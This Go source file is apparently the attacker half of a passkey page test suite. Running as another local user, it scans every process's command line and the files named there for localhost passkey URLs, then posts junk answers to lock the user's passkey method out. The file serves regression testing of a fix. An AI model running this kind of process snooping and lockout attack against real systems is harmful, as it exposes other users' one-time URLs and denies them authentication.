// Command snoop is the attacker of the passkey page tests: run as another
// user (setpriv --reuid nobody), it polls every process's command line
// for a passkey page address (http://localhost:PORT/c/...) or a file that
// holds one, and uses what it finds as fast as it can: it loads the page
// and posts junk answers to it, which before the fix locked the user's
// passkey method out. It prints one JSON object a line of what it learned
// and how the page server answered, and stops after -for.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"time"
)

type event struct {
	Event  string `json:"event"` // url, saw, read, get, post
	URL    string `json:"url,omitempty"`
	Path   string `json:"path,omitempty"`
	Status int    `json:"status,omitempty"`
	Err    string `json:"err,omitempty"`
}

var (
	pageURL  = regexp.MustCompile(`http://localhost:[0-9]+/c/[A-Za-z0-9_-]+`)
	fileURL  = regexp.MustCompile(`file://(/[^\s]+)`)
	launcher = "stepup-passkey-"
)

func main() {
	dur := flag.Duration("for", 20*time.Second, "how long to poll")
	junk := flag.Int("junk", 6, "junk answers to post to each page found")
	flag.Parse()
	enc := json.NewEncoder(os.Stdout)
	emit := func(e event) { _ = enc.Encode(e) }
	client := &http.Client{Timeout: 3 * time.Second}
	seen := map[string]bool{}
	tried := map[string]bool{}
	saw := map[string]bool{}
	use := func(u string) {
		if seen[u] {
			return
		}
		seen[u] = true
		emit(event{Event: "url", URL: u})
		go func() {
			resp, err := client.Get(u)
			if err != nil {
				emit(event{Event: "get", URL: u, Err: err.Error()})
			} else {
				resp.Body.Close()
				emit(event{Event: "get", URL: u, Status: resp.StatusCode})
			}
			pu, _ := url.Parse(u)
			origin := pu.Scheme + "://" + pu.Host
			for i := 0; i < *junk; i++ {
				req, _ := http.NewRequest("POST", u, bytes.NewReader([]byte(`{"id":"x","type":"public-key"}`)))
				req.Header.Set("Origin", origin)
				req.Header.Set("Content-Type", "application/json")
				resp, err := client.Do(req)
				if err != nil {
					emit(event{Event: "post", URL: u, Err: err.Error()})
					continue
				}
				resp.Body.Close()
				emit(event{Event: "post", URL: u, Status: resp.StatusCode})
			}
		}()
	}
	deadline := time.Now().Add(*dur)
	for time.Now().Before(deadline) {
		cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, f := range cmdlines {
			b, err := os.ReadFile(f)
			if err != nil {
				continue
			}
			for _, arg := range strings.Split(string(b), "\x00") {
				for _, u := range pageURL.FindAllString(arg, -1) {
					use(u)
				}
				if strings.Contains(arg, launcher) && !saw[arg] {
					saw[arg] = true
					emit(event{Event: "saw", Path: arg})
				}
				// A file named on a command line may hold the address.
				cands := []string{strings.TrimPrefix(arg, "file://")}
				for _, m := range fileURL.FindAllStringSubmatch(arg, -1) {
					cands = append(cands, strings.TrimRight(m[1], ".,;"))
				}
				for _, p := range cands {
					if !strings.HasPrefix(p, "/") || tried[p] || strings.HasPrefix(p, "/proc") {
						continue
					}
					fi, err := os.Stat(p)
					if err != nil && strings.Contains(p, launcher) {
						tried[p] = true
						emit(event{Event: "read", Path: p, Err: err.Error()})
					}
					if err != nil || !fi.Mode().IsRegular() || fi.Size() > 1<<20 {
						continue
					}
					tried[p] = true
					data, err := os.ReadFile(p)
					if err != nil {
						if strings.Contains(p, launcher) {
							emit(event{Event: "read", Path: p, Err: err.Error()})
						}
						continue
					}
					for _, u := range pageURL.FindAllString(string(data), -1) {
						emit(event{Event: "read", Path: p})
						use(u)
					}
				}
			}
		}
		time.Sleep(2 * time.Millisecond)
	}
}
